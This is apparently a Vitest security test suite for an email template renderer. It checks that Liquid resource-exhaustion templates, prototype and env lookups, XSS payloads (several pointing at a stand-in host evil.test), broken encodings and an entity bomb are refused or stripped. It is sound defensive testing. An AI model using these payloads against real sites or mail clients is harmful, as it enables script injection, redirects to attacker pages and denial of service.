import { describe, expect, it } from "vitest";
import { api } from "../../testing/shop";
import { checkTemplate } from "./compile-template";
import { aBrand } from "../../testing/brands";
import { aDraft, rendered } from "../../testing/drafts";
import { sampleContact } from "./sample-contact";
import type { TemplateKind } from "./schemas";

const refused = (field: string, reason: RegExp) =>
  expect.objectContaining({
    code: "TEMPLATE_INVALID",
    details: { [field]: [expect.stringMatching(reason)] },
  }) as Error;

const LIQUID = {
  "a range of a billion": "{% for i in (1..1000000000) %}x{% endfor %}",
  "a range that is only assigned": "{% assign a = (1..1000000000) | join: '' %}{{ a }}",
  "ranges in ranges":
    "{% for a in (1..9999) %}{% for b in (1..9999) %}{% for c in (1..9999) %}{% endfor %}{% endfor %}{% endfor %}",
  "rows of a table without end": "{% tablerow i in (1..100000000) %}x{% endtablerow %}",
  "a text that doubles by append":
    "{% assign s = 'xxxxxxxx' %}{% for i in (1..64) %}{% assign s = s | append: s %}{% endfor %}{{ s }}",
  "a text that grows by replace":
    "{% assign s = 'xxxxxxxxxx' %}{% for i in (1..20) %}{% assign s = s | replace: 'x', 'xxxxxxxxxx' %}{% endfor %}{{ s }}",
  "a capture that doubles":
    "{% assign s = 'xxxxxxxx' %}{% for i in (1..64) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}{{ s }}",
  "an array that doubles":
    "{% assign a = 'a,b,c,d' | split: ',' %}{% for i in (1..64) %}{% assign a = a | concat: a %}{% endfor %}{{ a | size }}",
  "a text of a gigabyte by ljust": "{{ 'x' | ljust: 1000000000 }}",
  "more output than a message holds": "{% for i in (1..60000) %}xxxxxxxxxxxx{% endfor %}",
};

describe("Liquid that never ends", () => {
  const kinds: [TemplateKind, (liquid: string) => Partial<Parameters<typeof rendered>[0]>][] = [
    ["html", (liquid) => ({ html: `<p>${liquid}</p>` })],
    ["markdown", (source) => ({ source })],
    [
      "mjml",
      (liquid) => ({
        source: `<mjml><mj-body><mj-section><mj-column><mj-text>${liquid}</mj-text></mj-column></mj-section></mj-body></mjml>`,
      }),
    ],
    [
      "visual",
      (content) => ({
        source: JSON.stringify({
          version: 1,
          blocks: [{ id: "t", type: "text", format: "html", content }],
        }),
      }),
    ],
  ];
  const cases = kinds.flatMap(([kind, write]) =>
    Object.entries(LIQUID).map(([attack, liquid]) => ({ attack, kind, write, liquid })),
  );

  it.each(cases)("is stopped: $attack, in $kind", async ({ kind, write, liquid }) => {
    await expect(rendered({ kind, ...write(liquid) })).rejects.toMatchObject({
      code: "TEMPLATE_INVALID",
    });
  });

  it("is stopped in subjects, too", async () => {
    const subject = LIQUID["a text that doubles by append"];
    await expect(rendered({ subject, html: "<p>a</p>" })).rejects.toMatchObject({
      code: "TEMPLATE_INVALID",
    });
  });
});

describe("What is not the template's to know", () => {
  it.each([
    "contact.constructor",
    "contact.__proto__.constructor",
    "contact['constructor']['constructor']",
    "contact.fields.__proto__",
    "contact.tags.constructor.prototype",
    "business.constructor.name",
    "brand.constructor",
    "brand.__proto__",
    "contact.email.constructor",
    "toString",
    "__proto__",
    "globalThis",
    "process.env",
    "env.SECRET_KEY",
  ])("{{ %s }} is nothing", async (path) => {
    const { subject } = await rendered({ subject: `[{{ ${path} }}]`, html: "<p>a</p>" });
    expect(subject).toBe("[]");
  });
});

describe("Markup that acts", () => {
  const ACTS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "a script split by a comment": "<scr<!-- -->ipt>alert(1)</script>",
    "an event handler": '<img src="https://a.eu/a.png" onerror="alert(1)">',
    "an event handler without quotes": "<p onmouseover=alert(1)>a</p>",
    "an address of script": '<a href="javascript:alert(1)">a</a>',
    "an address of script with a tab": '<a href="java\tscript:alert(1)">a</a>',
    "an address of script in entities":
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    "an address that is a page": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "a CSS expression": '<p style="width:expression(alert(1))">a</p>',
    "a CSS expression in escapes": '<p style="width:\\65xpression(alert(1))">a</p>',
    "an imported style sheet": "<style>@import url(https://evil.test/x.css);</style>",
    "a style sheet's binding": "<style>p{-moz-binding:url(https://evil.test/x)}</style>",
    "a style sheet that is linked": '<link rel="stylesheet" href="https://evil.test/x.css">',
    "a page that leads away": '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "a base for addresses": '<base href="https://evil.test/">',
    "a form": '<form action="https://evil.test"><input name="p"><button>a</button></form>',
    "a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a vector image": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "a comment for Outlook that breaks out":
      "<!--[if mso]>--><script>alert(1)</script><![endif]-->",
    "a comment for Outlook with a handler":
      '<!--[if mso]><table onclick="alert(1)"></table><![endif]-->',
    "a template element": "<template><script>alert(1)</script></template>",
  };
  const DANGEROUS =
    /<script|<iframe|<form|<input|<svg|<base|<link|<template|http-equiv|\son\w+\s*=|javascript:|text\/html|expression\(|@import|-moz-binding/i;

  it.each(Object.entries(ACTS))("is gone from HTML: %s", async (_, attack) => {
    expect((await rendered({ html: `<p>before</p>${attack}<p>after</p>` })).html).not.toMatch(
      DANGEROUS,
    );
  });

  it.each(Object.entries(ACTS))("is gone from Markdown: %s", async (_, attack) => {
    const { html } = await rendered({ kind: "markdown", source: `before\n\n${attack}\n\nafter` });
    expect(html).not.toMatch(DANGEROUS);
  });

  it.each(Object.entries(ACTS))("is gone from a visual block: %s", async (_, content) => {
    const blocks = [
      { id: "t", type: "text", format: "html", content },
      { id: "h", type: "heading", level: 1, text: content },
      { id: "i", type: "image", src: content, alt: content },
      { id: "b", type: "button", text: content, href: content },
    ];
    const source = JSON.stringify({ version: 1, blocks });
    const { html } = await rendered({ kind: "visual", source });
    const found: string[] = [];
    const rewriter = new HTMLRewriter().on("*", {
      element: ({ tagName, attributes }) => {
        for (const [name = "", value = ""] of attributes) found.push(`${tagName} ${name}=${value}`);
        found.push(`<${tagName}`);
      },
    });
    await rewriter.transform(new Response(html)).text();
    const acts =
      /^<(?:script|iframe|form|input|svg|base|link|template)$|^\w+ on\w+=|^\w+ (?:href|src)=\s*(?:javascript|data:text)/i;
    expect(found.filter((each) => acts.test(each))).toEqual([]);
  });

  it.each(["<mj-raw>", "<mj-text>"])("is gone from %s", async (open) => {
    const close = open.replace("<", "</");
    const inside = `${open}<script>alert(1)</script><p onclick="alert(1)">a</p>${close}`;
    const body =
      open === "<mj-raw>" ? inside : `<mj-section><mj-column>${inside}</mj-column></mj-section>`;
    const source = `<mjml><mj-body>${body}</mj-body></mjml>`;
    const { html } = await rendered({ kind: "mjml", source });
    expect(html).not.toMatch(/<script|onclick/);
  });

  it("is named when somebody saves it", async () => {
    const source =
      '<mjml><mj-body><mj-raw><iframe src="https://a.eu"></iframe></mj-raw></mj-body></mjml>';
    await expect(checkTemplate(aDraft({ kind: "mjml", source }), aBrand())).rejects.toEqual(
      refused("source", /<iframe>/),
    );
  });

  it("does not come from a contact into comments for Outlook", async () => {
    const html =
      "<!--[if mso]><table><tr><td>{{ contact.firstName | raw }}</td></tr></table><![endif]--><p>a</p>";
    const contact = { ...sampleContact, firstName: "--><script>alert(1)</script>" };
    expect((await rendered({ html }, { contact })).html).not.toContain("<script");
  });
});

describe("Broken encodings", () => {
  it.each([
    ["half of a character", "a\ud800b"],
    ["the other half", "a\udc00b"],
    ["NUL", "a\u0000b"],
    ["a control", "a\u001bb"],
    ["what is no character", "a\uffffb"],
  ])("%s is refused with its line", async (_, broken) => {
    await expect(rendered({ html: `<p>a</p>\n<p>${broken}</p>` })).rejects.toEqual(
      refused("html", /^Line 2: .*characters/),
    );
    await expect(rendered({ kind: "markdown", source: broken })).rejects.toEqual(
      refused("source", /^Line 1/),
    );
    await expect(rendered({ html: "<p>a</p>", text: broken })).rejects.toEqual(
      refused("text", /^Line 1/),
    );
  });

  it("entities of what is no character become a sign for that", async () => {
    const { html } = await rendered({ html: "<p>&#0;&#xD800;&#x110000;</p>" });
    expect(html.isWellFormed()).toBe(true);
    expect(html).not.toContain("\u0000");
  });

  it("bytes that are an overlong < are no tag", async () => {
    const shop = await api();
    const bytes = Uint8Array.from(
      new TextEncoder().encode(JSON.stringify({ name: "a", subject: "a", html: "<p>XX</p>" })),
    );
    const at = bytes.indexOf("X".charCodeAt(0));
    bytes.set([0xc0, 0xbc], at);
    const headers = { "Content-Type": "application/json" };
    const answer = await shop.request<{ html: string }>("POST", "/templates", undefined, {
      raw: bytes,
      headers,
    });
    expect(JSON.stringify(answer.data ?? "")).not.toContain("<<");
    expect([201, 400]).toContain(answer.status);
  });
});

describe("Documents that are too much", () => {
  it.each([
    ["HTML", "html", "html", "<div>".repeat(30_000)],
    ["MJML", "mjml", "source", `<mjml><mj-body>${"<mj-wrapper>".repeat(15_000)}`],
  ] as const)("%s is refused if it is nested without end", async (_, kind, field, written) => {
    await expect(rendered({ kind, [field]: written })).rejects.toEqual(refused(field, /nested/));
  });

  it("visual JSON is refused if it is nested without end", async () => {
    const source = `{"version":1,"blocks":${"[".repeat(90_000)}`;
    await expect(rendered({ kind: "visual", source })).rejects.toEqual(refused("source", /nested/));
  });

  it("Markdown that nests without end is read to a depth", async () => {
    const { html } = await rendered({ kind: "markdown", source: `${"> ".repeat(3000)}deep` });
    expect(html.match(/<blockquote/g)!.length).toBeLessThanOrEqual(40);
  });

  it("HTML is refused with more elements than any email has", async () => {
    await expect(rendered({ html: "<b></b>".repeat(20_000) })).rejects.toEqual(
      refused("html", /more than 10000 elements/),
    );
  });

  it("entities that multiply are not declared", async () => {
    const bomb = `<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><mjml><mj-body></mj-body></mjml>`;
    await expect(rendered({ kind: "mjml", source: bomb })).rejects.toEqual(
      refused("source", /entities/),
    );
    expect(
      (await rendered({ html: `<!DOCTYPE x [<!ENTITY a "lol">]><p>&a;</p>` })).html,
    ).not.toContain("lol<");
  });

  it("an image in an address is dropped over 8 KB, and said so", async () => {
    const html = `<p>a</p><img alt="a" src="data:image/png;base64,${"A".repeat(20_000)}">`;
    const made = await rendered({ html });
    expect(made.html).not.toContain("base64");
    await expect(checkTemplate(aDraft({ html }), aBrand())).rejects.toEqual(
      refused("html", /8 KB/),
    );
  });

  it("styles that are too much work are left in their sheet, and said so", async () => {
    const rules = Array.from({ length: 2000 }, () => "p{color:red}").join("");
    const { html, lint } = await rendered({
      html: `<style>${rules}</style>${"<p>x</p>".repeat(4000)}`,
    });
    expect(html).toContain("<p>x</p>");
    expect(lint.map(({ message }) => message).join()).toContain("too many styles");
  });

  it("selectors that could backtrack do not", async () => {
    const css = `${"a ".repeat(8000)}{color:red} [${"x".repeat(20_000)} {color:red} ${"p>".repeat(9000)}b{color:red}`;
    expect((await rendered({ html: `<style>${css}</style><p>x</p>` })).html).toContain("x</p>");
  });

  it("a template is refused over 200,000 characters", async () => {
    const shop = await api();
    const body = { name: "a", subject: "a", kind: "markdown", source: "a".repeat(200_001) };
    const { status, details } = await shop.request("POST", "/templates", body);
    expect([status, Object.keys(details)]).toEqual([400, ["source"]]);
  });
});
